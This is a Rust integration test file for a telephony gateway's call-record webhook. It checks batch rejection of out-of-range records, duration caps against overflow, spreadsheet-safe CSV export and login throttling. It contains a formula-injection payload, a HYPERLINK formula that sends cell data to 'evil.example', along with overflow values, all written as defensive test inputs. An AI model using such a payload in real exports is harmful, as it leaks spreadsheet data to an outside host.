//! Issue 15: hostile call data. CDRs out of bounds are refused whole; carrier durations are
//! capped so sums cannot overflow; CSV exports are spreadsheet-safe; failed CDR logins are
//! throttled and never take the write lock.

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use base64::Engine;
use serde_json::{Value, json};

use crate::harness::{TWILIO_TOKEN, Tenant, TestApp, apps};

fn basic(user: &str, password: &str) -> String {
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
    )
}

async fn cdr_credential(app: &TestApp, tenant: &Tenant) -> (String, String) {
    let cred = app
        .json(
            Method::POST,
            &format!("/api/v1/tenants/{}/cdr-credentials", tenant.slug),
            Some(&tenant.access),
            None,
        )
        .await;
    assert_eq!(cred.status, StatusCode::CREATED, "{}", cred.text);
    (
        cred.body["username"].as_str().unwrap().to_owned(),
        cred.body["password"].as_str().unwrap().to_owned(),
    )
}

fn cdr_post(slug: &str, auth: &str, body: &Value) -> Request<Body> {
    Request::post(format!("/api/v1/webhooks/cdr/{slug}"))
        .header("content-type", "application/json")
        .header("authorization", auth)
        .body(Body::from(body.to_string()))
        .unwrap()
}

fn cdr(overrides: Value) -> Value {
    let mut record = json!({"id": "pbx-ok", "from": "+15550101", "to": "+15550102",
        "direction": "inbound", "start": "2026-11-20T09:00:00Z", "answer": "2026-11-20T09:00:05Z",
        "end": "2026-11-20T09:02:05Z", "disposition": "answered"});
    for (key, value) in overrides.as_object().unwrap() {
        record[key] = value.clone();
    }
    record
}

#[tokio::test]
async fn cdrs_out_of_bounds_are_refused_and_sums_cannot_overflow() {
    for app in apps("bounds", &[]).await {
        println!("backend: {}", app.backend);
        let tenant = app.signup("bounds@example.com", "Bounds Inc").await;
        let (user, password) = cdr_credential(&app, &tenant).await;
        let auth = basic(&user, &password);
        let cases = [
            (json!({"duration": i64::MAX}), "duration"),
            (json!({"duration": -5}), "duration"),
            (json!({"end": "2026-11-20T08:00:00Z"}), "end"),
            (json!({"answer": "2026-11-20T08:59:00Z"}), "answer"),
            (json!({"start": "1970-01-01T00:00:00Z"}), "start"),
            (json!({"start": "2999-01-01T00:00:00Z"}), "start"),
            (json!({"from": "=HYPERLINK(\"x\")"}), "from"),
            (json!({"to": "12345"}), "to"),
            (
                json!({"answer": null, "end": "2026-11-20T09:00:05Z", "duration": 90_000}),
                "duration",
            ),
        ];
        for (overrides, field) in cases {
            // A good record first: the batch is refused whole, nothing is stored.
            let batch =
                json!({"records": [cdr(json!({"id": "pbx-good"})), cdr(overrides.clone())]});
            let reply = app.raw(cdr_post(&tenant.slug, &auth, &batch)).await;
            assert_eq!(
                reply.status,
                StatusCode::UNPROCESSABLE_ENTITY,
                "{overrides}: {}",
                reply.text
            );
            assert!(reply.text.contains(field), "{overrides}: {}", reply.text);
        }
        assert_eq!(
            app.count("SELECT COUNT(*) FROM calls WHERE source = 'cdr'")
                .await,
            0
        );
        // A formula in a free-text field is stored, but exported as text.
        let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
        let stored = app
            .raw(cdr_post(
                &tenant.slug,
                &auth,
                &cdr(json!({"id": "pbx-formula", "disposition": formula})),
            ))
            .await;
        assert_eq!(stored.status, StatusCode::OK, "{}", stored.text);
        let csv = app
            .json(
                Method::GET,
                &format!("/api/v1/tenants/{}/calls/export.csv", tenant.slug),
                Some(&tenant.access),
                None,
            )
            .await;
        assert_eq!(csv.status, StatusCode::OK);
        assert!(csv.text.contains("'=HYPERLINK"), "{}", csv.text);
        assert!(
            csv.text.contains(",+15550101,"),
            "numbers stay as they are: {}",
            csv.text
        );

        // A signed Twilio callback with an absurd CallDuration bills at most a day.
        app.route_number("+15550499", &tenant.id, "twilio", "platform")
            .await;
        let voice = app
            .twilio_post(
                "/api/v1/webhooks/twilio/voice",
                TWILIO_TOKEN,
                &[
                    ("CallSid", "CAhuge"),
                    ("From", "+15550123"),
                    ("To", "+15550499"),
                ],
            )
            .await;
        assert_eq!(voice.status, StatusCode::OK, "{}", voice.text);
        let status = app
            .twilio_post(
                "/api/v1/webhooks/twilio/status",
                TWILIO_TOKEN,
                &[
                    ("CallSid", "CAhuge"),
                    ("To", "+15550499"),
                    ("CallStatus", "completed"),
                    ("CallDuration", "922337203685477580"),
                ],
            )
            .await;
        assert!(status.status.is_success(), "{}", status.text);
        let usage = app
            .json(
                Method::GET,
                &format!("/api/v1/tenants/{}/usage", tenant.slug),
                Some(&tenant.access),
                None,
            )
            .await;
        assert_eq!(usage.body["usage"]["callMinutes"], 1440, "{}", usage.text);
        let stats = app
            .json(
                Method::GET,
                &format!("/api/v1/tenants/{}/calls/stats", tenant.slug),
                Some(&tenant.access),
                None,
            )
            .await;
        assert_eq!(stats.status, StatusCode::OK, "{}", stats.text);
        assert_eq!(stats.body["total"], 2, "{}", stats.text);
        app.finish().await;
    }
}

#[tokio::test]
async fn failed_cdr_logins_are_throttled_and_never_take_the_write_lock() {
    for app in apps(
        "cdr throttle",
        &[
            "--rate-limit-cdr-auth-failures-per-minute".into(),
            "3".into(),
        ],
    )
    .await
    {
        println!("backend: {}", app.backend);
        // The failure budget is keyed by the tenant key in the URL and shared through Redis
        // when REDIS_URL is set, so each backend's run (and each test process) gets a slug of
        // its own: otherwise the SQLite run's failures would count against the Postgres run.
        let company = format!("Guess {} {}", app.backend, std::process::id());
        let tenant = app.signup("guess@example.com", &company).await;
        let (user, password) = cdr_credential(&app, &tenant).await;
        let body = json!({"records": [cdr(json!({}))]});
        // While another writer holds SQLite's write lock, a wrong password still answers at
        // once: the credential is read without taking the lock.
        let mut holder = app
            .state
            .store
            .write(&switchboard_gateway::store::Scope::tenant(&tenant.id))
            .await
            .unwrap();
        sqlx::query("SELECT 1").execute(&mut *holder).await.unwrap();
        let wrong = tokio::time::timeout(
            std::time::Duration::from_secs(2),
            app.raw(cdr_post(&tenant.slug, &basic(&user, "wrong"), &body)),
        )
        .await
        .expect("a wrong password must not wait for the write lock");
        assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
        holder.rollback().await.unwrap();
        for _ in 0..2 {
            let reply = app
                .raw(cdr_post(&tenant.slug, &basic(&user, "wrong"), &body))
                .await;
            assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
        }
        // The budget of 3 failures is spent: the next failure is refused with 429, and from
        // then on even the right password waits.
        let over = app
            .raw(cdr_post(&tenant.slug, &basic(&user, "wrong"), &body))
            .await;
        assert_eq!(over.status, StatusCode::TOO_MANY_REQUESTS, "{}", over.text);
        let blocked = app
            .raw(cdr_post(&tenant.slug, &basic(&user, &password), &body))
            .await;
        assert_eq!(
            blocked.status,
            StatusCode::TOO_MANY_REQUESTS,
            "{}",
            blocked.text
        );
        assert!(blocked.headers.contains_key("retry-after"));
        // Another tenant's PBX is not affected.
        let other = app.signup("other-pbx@example.com", "Other PBX").await;
        let (other_user, other_password) = cdr_credential(&app, &other).await;
        let ok = app
            .raw(cdr_post(
                &other.slug,
                &basic(&other_user, &other_password),
                &body,
            ))
            .await;
        assert_eq!(ok.status, StatusCode::OK, "{}", ok.text);
        app.finish().await;
    }
}
